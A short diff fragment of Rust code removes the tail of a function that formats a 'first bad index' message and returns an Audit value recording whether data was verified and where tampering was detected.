-        format!("first bad index {at:?}"),
-    );
-    Ok(Audit {
-        verified,
-        tamper_detected_at: at,
-    })
 }
